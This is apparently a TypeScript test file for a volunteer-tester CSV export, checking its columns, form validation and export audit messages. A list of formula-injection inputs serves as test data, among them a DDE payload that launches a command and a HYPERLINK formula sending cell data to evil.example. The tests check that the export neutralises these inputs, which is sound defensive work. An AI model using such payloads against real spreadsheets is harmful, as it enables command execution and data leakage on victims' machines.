import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import { fileName, testersCsv } from '../../src/testers/volunteers/export-csv.ts'
import { exportSchema } from '../../src/testers/volunteers/export-form.ts'
import { presentExports } from '../../src/testers/volunteers/exports-view.ts'
import type { Exports } from '../../src/testers/volunteers/tester-list.ts'
import { copied } from '../support/testers/tester-list.ts'

/** What a spreadsheet reads. */
const read = (csv: string) => parse(csv, { bom: true, columns: true }) as Record<string, string>[]

describe('the file', () => {
  test('has a row for each tester, in words, with the mark that spreadsheets need', () => {
    const csv = testersCsv(
      [
        copied({
          name: 'Ann “A.” O’Neill, Jr.',
          consents: ['invite', 'share'],
          paused_until: '2026-12-31',
          profile: { devices: ['mac', 'iphone'], assistive: ['screen_reader'], assistive_other: 'A "wand"', phone: '416-555-0100' },
        }),
        copied({ name: null }),
      ],
      false,
    )
    expect(csv.startsWith('\ufeffName,E-mail,Phone,')).toBe(true)
    expect(csv.split('\r\n')).toHaveLength(4)
    expect(read(csv)).toEqual([
      {
        Name: 'Ann “A.” O’Neill, Jr.',
        'E-mail': 'wanda@example.org',
        Phone: '416-555-0100',
        Device: 'iPhone; Mac',
        'Assistive technology': 'Screen reader or Braille display',
        Browser: '',
        'Goes online': '',
        'Would like to test': '',
        'Can be reached': '',
        'Has time': '',
        'Assistive technology, in own words': 'A "wand"',
        'Agreed to': expect.stringMatching(/^To be invited to tests; That .* gets their details$/) as unknown,
        'Pauses until': '2026-12-31',
      },
      expect.objectContaining({ Name: '', 'Agreed to': 'To be invited to tests', 'Pauses until': '' }),
    ])
  })

  test('for somebody else has no column about the association’s own mails', () => {
    const [row] = read(testersCsv([copied()], true))
    expect(Object.keys(row ?? {})).toHaveLength(11)
    expect(row).not.toHaveProperty('Agreed to')
    expect(row).not.toHaveProperty('Pauses until')
  })

  const FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
    '\tx',
    '\r=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '"=1+1"',
    "'=1+1",
    '  =1+1',
    '\u00a0=1+1',
    '“=1+1”',
  ]
  const OTHERS = ['x","=1+1', 'x\r\n=1+1', 'x;=1+1', '"', ',,,', '1-1']

  test.each([...FORMULAS, ...OTHERS])('runs nothing in a spreadsheet and breaks no row, whatever somebody typed: %j', (typed) => {
    const hostile = copied({ name: typed, email: typed, profile: { assistive_other: typed, phone: typed } })
    for (const onlyShared of [false, true]) {
      const rows = read(testersCsv([hostile, copied()], onlyShared))
      expect(rows, 'as many rows as testers').toHaveLength(2)
      for (const column of ['Name', 'E-mail', 'Phone', 'Assistive technology, in own words'])
        expect(rows[0]?.[column], column).toBe(FORMULAS.includes(typed) ? `'${typed}` : typed)
      expect(rows[1]?.['Name'], 'the row after it').toBe('Wanda')
    }
  })

  test('carries the association’s day in its name, and nothing that was typed', () => {
    // Four in the morning by Greenwich is the evening before in Toronto.
    expect(fileName(false, new Date('2026-11-26T04:00:00Z'))).toBe('testers-2026-11-25.csv')
    expect(fileName(true, new Date('2026-11-26T12:00:00Z'))).toBe('testers-to-share-2026-11-26.csv')
  })
})

describe('the form', () => {
  const good = { view: 'devices=iphone&all=yes', why: 'To print labels.' }
  const messages = (typed: Record<string, unknown>) =>
    exportSchema.safeParse(typed).error?.issues.map(({ path, message }) => [path[0], message])

  test('says which testers, why, and for whom', () => {
    expect(exportSchema.parse(good)).toEqual({ view: { devices: 'iphone' }, why: 'To print labels.', only_shared: false })
    expect(exportSchema.parse({ ...good, view: '', only_shared: 'yes', why: '  Two\r\nlines\u202e,  tidied \u200b ' })).toEqual({
      view: {},
      why: 'Two lines, tidied',
      only_shared: true,
    })
  })

  test.each([
    undefined,
    '',
    ' '.repeat(30),
    'x'.repeat(9),
    '😀'.repeat(9),
    '..........',
    ' \u200b\u202e'.repeat(20),
    ['a reason', 'another'],
  ])('takes no copy for no reason: %j', (why) => {
    expect(messages({ ...good, why })).toEqual([['why', expect.stringMatching(/^Say why you need a copy, in 10 characters or more\./)]])
  })

  test('counts a reason as the database does', () => {
    expect(exportSchema.safeParse({ ...good, why: `a${'😀'.repeat(299)}` }).success).toBe(true)
    expect(messages({ ...good, why: `a${'😀'.repeat(300)}` })).toEqual([['why', 'Shorten the reason to 300 characters.']])
  })

  test.each([undefined, 'devices=nokia', 'devices=iphone&devices=mac', 'devices=iphone&x=y', 'all=no', '=', `x=${'y'.repeat(3000)}`])(
    'is refused with a filter that is not understood, because the copy would have more people: %j',
    (view) => {
      expect(messages({ ...good, view })).toEqual([['view', expect.stringContaining('Open the list again')]])
    },
  )

  test.each(['no', 'on', 'true', '', ['yes', 'yes']])('is refused with a tick that is none: %j', (only_shared) => {
    expect(messages({ ...good, only_shared })).toEqual([['only_shared', 'Tick this box or leave it empty.']])
  })
})

describe('what was exported', () => {
  const taken = (changes: Partial<Exports['exports'][number]> = {}): Exports['exports'][number] => ({
    id: 'x',
    exported_at: '2026-11-26T17:00:00Z',
    by: 'ann@example.org',
    you: false,
    why: 'To print labels.',
    filter: {},
    only_shared: false,
    testers: 2,
    left_since: 0,
    too_old: false,
    ...changes,
  })
  const shown = (changes: Partial<Exports['exports'][number]>) =>
    presentExports({ ok: true, total: 1, exports: [taken(changes)] }).exports[0]

  test('is told with who, when, why and of how many', () => {
    expect(shown({ filter: { devices: 'iphone' } })).toEqual({
      when: 'November 26, 2026 at 12:00 p.m.',
      moment: '2026-11-26T17:00:00Z',
      who: 'ann@example.org',
      why: 'To print labels.',
      what: '2 testers. Device: iPhone.',
      delete_it: null,
      fine: 'Nobody has left since.',
    })
    expect(shown({ you: true })?.who).toBe('You (ann@example.org)')
    expect(shown({ by: null })?.who).toBe('Somebody who is no volunteer any more')
    expect(shown({ only_shared: true, testers: 1 })?.what).toMatch(/^1 tester, for .*\. Without a filter\.$/)
  })

  test('is to be deleted when somebody has left since, and when nobody can know', () => {
    expect(shown({ left_since: 2 })).toMatchObject({
      delete_it: '2 people have left since: delete this file and make a new one.',
      fine: null,
    })
    expect(shown({ left_since: 1 })?.delete_it).toBe('1 person has left since: delete this file and make a new one.')
    expect(shown({ left_since: 1, only_shared: true })?.delete_it).toMatch(
      /or took back that .* has their details\. Delete this file, ask .* to delete it/,
    )
    expect(shown({ too_old: true })).toMatchObject({ delete_it: 'This file is older than 24 months. Delete it.', fine: null })
  })

  test('says so when there is nothing, and when there is more', () => {
    expect(presentExports({ ok: true, total: 0, exports: [] })).toMatchObject({ none: true, more: null })
    expect(presentExports({ ok: true, total: 300, exports: [taken()] }).more).toBe(
      'The 1 newest of 300 exports are listed. Delete all files that are older.',
    )
  })
})
